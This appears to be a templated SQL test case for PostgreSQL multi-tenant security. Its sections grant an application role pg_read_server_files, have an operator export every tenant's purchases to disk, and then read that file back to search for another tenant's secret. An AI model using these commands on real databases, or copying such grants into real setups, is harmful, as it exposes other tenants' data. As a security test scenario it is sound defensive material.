-- pg_read_server_files: the nightly export of all tenants lies on the server's disk.
-- object: role:{spring}
-- base: third_hibernate
--- leak
RESET ROLE;
GRANT pg_read_server_files TO {spring};
--- operator
RESET ROLE;
COPY shop_data.purchase TO '{socket}/{db}.export.csv';
--- exploit
CREATE TEMP TABLE line (text text);
COPY line FROM '{socket}/{db}.export.csv' WITH (FORMAT csv, DELIMITER E'\x01', QUOTE E'\x02');
SELECT text FROM line WHERE text LIKE '%secret of b%';
